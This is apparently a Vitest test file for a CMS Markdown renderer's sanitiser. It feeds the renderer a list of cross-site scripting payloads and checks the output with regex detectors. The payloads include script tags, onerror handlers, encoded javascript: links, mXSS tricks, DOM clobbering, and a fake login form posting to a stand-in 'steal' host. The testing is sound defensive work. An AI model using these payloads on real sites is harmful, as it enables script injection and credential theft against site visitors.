// Whatever an editor pastes into a Markdown field, the page gets no script, no event handler, no
// dangerous address, no style, no form, no frame; and ordinary Markdown keeps its structure.
import { Marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/lib/markdown.ts';

const CMS = 'https://cms.example.se';
const render = (source: string) => renderMarkdown(source, { mediaBaseUrl: CMS });

/** Everything in the output that could run code, load something unasked, or change the page. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const checks: [string, RegExp][] = [
    ['script element', /<\s*script/i],
    ['event handler attribute', /<[^>]+\son[a-z]+\s*=/i],
    [
      'javascript: address',
      /(?:href|src|action|formaction|xlink:href|data)\s*=\s*["']?\s*(?:j|&#)[^"'>]*?(?:script|&#)/i,
    ],
    ['javascript: in any attribute', /=\s*["']?\s*javascript:/i],
    ['vbscript: address', /vbscript:/i],
    ['data: address', /(?:href|src)\s*=\s*["']?\s*data:/i],
    ['iframe', /<\s*i?frame/i],
    ['object or embed', /<\s*(?:object|embed|applet)/i],
    ['svg', /<\s*svg/i],
    ['math', /<\s*math/i],
    ['style element', /<\s*style/i],
    ['style attribute', /<[^>]+\sstyle\s*=/i],
    ['form', /<\s*form/i],
    ['input', /<\s*(?:input|button|select|textarea)/i],
    ['base or meta or link', /<\s*(?:base|meta|link)\b/i],
    ['id or name attribute', /<[^>]+\s(?:id|name)\s*=/i],
    ['srcdoc or formaction', /(?:srcdoc|formaction)\s*=/i],
    ['template', /<\s*template/i],
    ['target attribute', /<[^>]+\starget\s*=/i],
  ];
  for (const [name, pattern] of checks) if (pattern.test(html)) found.push(name);
  return found;
}

const HOSTILE: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag with src', '<script src="https://evil.example/x.js"></script>'],
  ['script split by case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script inside Markdown paragraph', 'Hej <script>document.cookie</script> då'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror with quotes', '<img src="x" onerror="alert(1)">'],
  ['event handler on div', '<div onclick="alert(1)">klicka</div>'],
  ['event handler on a', '<a href="https://ok.example" onmouseover="alert(1)">länk</a>'],
  ['body onload', '<body onload=alert(1)>'],
  ['javascript: link in Markdown', '[klicka](javascript:alert(1))'],
  ['javascript: link with entities', '[klicka](&#106;avascript:alert(1))'],
  ['javascript: link with tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['javascript: link upper case', '<a href="JAVASCRIPT:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data: image in Markdown', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['javascript: image', '![x](javascript:alert(1))'],
  ['svg with onload', '<svg onload=alert(1)><circle r="10"/></svg>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg use xlink', '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['math with link', '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['style element', '<style>body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">täcker sidan</p>'],
  [
    'form with action',
    '<form action="https://evil.example/steal"><input name="password"><button>Logga in</button></form>',
  ],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  [
    'DOM clobbering id',
    '<a id="location" href="https://ok.example">x</a><img name="cookie" src="https://cms.example.se/uploads/x.png">',
  ],
  ['target blank tabnabbing', '<a href="https://evil.example" target="_blank">x</a>'],
  ['broken HTML: unclosed script', '<script>alert(1)'],
  ['broken HTML: tag in attribute', '<img src="x" alt="<script>alert(1)</script>" onerror="alert(1)">'],
  ['broken HTML: nested quotes', '<a href="https://ok.example" "onclick=alert(1)">x</a>'],
  ['broken HTML: comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['reference link javascript', '[x][a]\n\n[a]: javascript:alert(1)'],
  ['protocol-relative image', '![x](//evil.example/track.png)'],
];

describe('renderMarkdown with hostile input', () => {
  it(`covers at least 30 cases (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
  });

  it('would catch these inputs without the sanitiser (the checks can fail)', () => {
    const unsanitised = new Marked({ async: false });
    const caught = HOSTILE.filter(([, source]) => dangers(unsanitised.parse(source) as string).length > 0);
    expect(caught.length).toBeGreaterThanOrEqual(30);
  });

  it.each(HOSTILE)('neutralises %s', (_name, source) => {
    const html = render(source);
    expect(dangers(html), html).toEqual([]);
  });

  it('keeps the text of a neutralised tag readable', () => {
    expect(render('<div onclick="alert(1)">klicka</div>')).toContain('klicka');
  });

  it('drops what is inside script and style, not just the tags', () => {
    const html = render('före <script>alert("x")</script><style>p{}</style> efter');
    expect(html).not.toContain('alert');
    expect(html).not.toContain('p{}');
    expect(html).toContain('efter');
  });

  it('turns an image from a third party into a link, so opening the page loads nothing from there', () => {
    const html = render('![Butiken i Sörsjön](https://tracker.example/butik.jpg)');
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('<a href="https://tracker.example/butik.jpg">Bild: Butiken i Sörsjön</a>');
  });

  it('escapes text that looks like HTML inside code', () => {
    expect(render('`<script>alert(1)</script>`')).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>');
  });
});

describe('renderMarkdown with ordinary Markdown', () => {
  const source = [
    '# Rubrik',
    '',
    'Ett stycke med **fetstil**, *kursiv*, ~~överstruket~~ och en [länk](https://tillvaxtverket.se "Tillväxtverket").',
    '',
    '## Underrubrik',
    '',
    '- punkt ett',
    '- punkt två',
    '',
    '3. tre',
    '4. fyra',
    '',
    '> Ett citat.',
    '',
    '| Ort | Kunder per vecka |',
    '|:----|----------------:|',
    '| Sörsjön | 420 |',
    '',
    '![Butiken](/uploads/butiken.jpg)',
    '',
    '```js',
    'const antal = 3;',
    '```',
    '',
    '---',
    '',
    'Mejla [oss](mailto:info@example.se) eller ring [010-123 45 67](tel:+46101234567).',
  ].join('\n');
  const html = render(source);

  it('keeps headings, raising # to the lowest level the page allows', () => {
    expect(html).toContain('<h2>Rubrik</h2>');
    expect(html).toContain('<h2>Underrubrik</h2>');
    expect(html).not.toContain('<h1');
  });

  it('keeps emphasis, lists, quotes and rules', () => {
    expect(html).toContain('<strong>fetstil</strong>');
    expect(html).toContain('<em>kursiv</em>');
    expect(html).toContain('<del>överstruket</del>');
    expect(html).toContain('<li>punkt ett</li>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<hr />');
  });

  it('keeps links with their title, mailto and tel', () => {
    expect(html).toContain('<a href="https://tillvaxtverket.se" title="Tillväxtverket">länk</a>');
    expect(html).toContain('href="mailto:info@example.se"');
    expect(html).toContain('href="tel:+46101234567"');
  });

  it('keeps tables, with alignment, in a scrollable region a keyboard can reach', () => {
    expect(html).toContain('<div class="table-scroll" role="region" tabindex="0" aria-label="Tabell"><table>');
    expect(html).toContain('<th align="right">Kunder per vecka</th>');
    expect(html).toContain('<td>Sörsjön</td>'.replace('<td>', '<td align="left">'));
    expect(html).toContain('</table></div>');
  });

  it('keeps images from the CMS, made absolute and lazy', () => {
    expect(html).toContain(
      '<img src="https://cms.example.se/uploads/butiken.jpg" alt="Butiken" loading="lazy" decoding="async" />',
    );
  });

  it('keeps code blocks with their language class', () => {
    expect(html).toContain('<pre><code class="language-js">const antal = 3;');
  });

  it('raises headings further inside nested content', () => {
    expect(renderMarkdown('# A\n\n### B', { minHeadingLevel: 4 })).toBe('<h4>A</h4>\n<h4>B</h4>\n');
  });

  it('gives an empty string for empty input', () => {
    expect(renderMarkdown(null)).toBe('');
    expect(renderMarkdown('   ')).toBe('');
  });

  it('allows images from origins the site is told to trust', () => {
    const trusted = renderMarkdown('![x](https://bilder.example.se/a.png)', {
      imageOrigins: ['https://bilder.example.se'],
    });
    expect(trusted).toContain('<img src="https://bilder.example.se/a.png"');
  });
});
